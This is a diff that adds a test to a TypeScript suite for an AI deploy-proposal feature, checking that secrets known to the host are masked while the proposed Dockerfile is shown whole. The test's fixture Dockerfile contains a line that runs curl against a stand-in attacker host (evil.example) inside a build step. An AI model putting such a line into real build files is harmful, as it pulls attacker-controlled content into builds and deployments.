@@ -1,7 +1,7 @@
 // From what the AI proposes to what a deploy takes.
 import t from 'tap';
 import { parse } from 'yaml';
-import { composeOf, variablesOf } from '../../agent/deploy/ai/proposal.ts';
+import { composeOf, showProposal, variablesOf } from '../../agent/deploy/ai/proposal.ts';
 
 const rendered = (compose: string, dockerfile: string | null): unknown => parse(composeOf({ compose, dockerfile }));
 
@@ -57,5 +57,26 @@ t.test('what only the user can give is asked for, and so is a secret that a mach
     A: '',
     DB_PASSWORD: 'own',
     AUTH_ENABLED: 'true',
+  });
+});
+
+t.test('it is shown whole, but for what the host knows as secret', async (t) => {
+  const proposal = {
+    compose: 'services: {web: {build: ., command: "serve --key known-secret"}}',
+    dockerfile: 'FROM a\nRUN PASSWORD="$(curl evil.example)x" make\n',
+    variables: [variable('GREETING', 'hello'), variable('LEVEL', 'info')],
+    port: null,
+    healthPath: null,
+    reasons: ['It wants known-secret'],
+  };
+  const hide = (text: string) => text.replaceAll('known-secret', '***');
+  t.match(showProposal(proposal, { LEVEL: 'known-secret' }, hide), {
+    compose: 'services: {web: {build: ., command: "serve --key ***"}}',
+    dockerfile: proposal.dockerfile,
+    variables: [
+      { name: 'GREETING', value: 'hello', isGiven: false },
+      { name: 'LEVEL', value: null, isGiven: true },
+    ],
+    reasons: ['It wants ***'],
   });
 });
